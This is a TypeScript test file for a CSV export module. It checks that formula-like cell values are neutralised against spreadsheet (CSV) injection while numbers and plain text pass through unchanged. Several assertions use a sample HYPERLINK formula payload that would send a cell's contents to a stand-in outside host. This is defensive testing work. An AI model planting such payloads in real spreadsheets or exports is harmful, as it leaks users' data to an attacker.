import { neutraliseCell, toCsv, type ExportColumn } from './export.types.js';

describe('CSV exports and spreadsheet formulas (OWASP CSV injection)', () => {
  it('prefixes a quote to any text a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutraliseCell(`${start}HYPERLINK("http://x.test/?"&A1,"click")`)).toBe(
        `'${start}HYPERLINK("http://x.test/?"&A1,"click")`,
      );
    }
    expect(neutraliseCell('-')).toBe("'-");
    expect(neutraliseCell('-1500.25 USD')).toBe("'-1500.25 USD");
  });

  it('keeps numbers, negative decimals and ordinary text as they are', () => {
    expect(neutraliseCell('-1500.25')).toBe('-1500.25');
    expect(neutraliseCell('-3')).toBe('-3');
    expect(neutraliseCell(-1500.25)).toBe(-1500.25);
    expect(neutraliseCell('Prosecutors = judges')).toBe('Prosecutors = judges');
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell(true)).toBe(true);
  });

  it('neutralises every cell of every export, header included', () => {
    const columns: ExportColumn<{ d: string; n: string }>[] = [
      { header: 'description', value: (r) => r.d },
      { header: 'gap', value: (r) => r.n },
    ];
    const csv = toCsv(columns, [{ d: '=HYPERLINK("http://x.test/?"&A1,"click")', n: '-1500.25' }]);
    expect(csv).toBe(`description,gap\n"'=HYPERLINK(""http://x.test/?""&A1,""click"")",-1500.25\n`);
  });
});
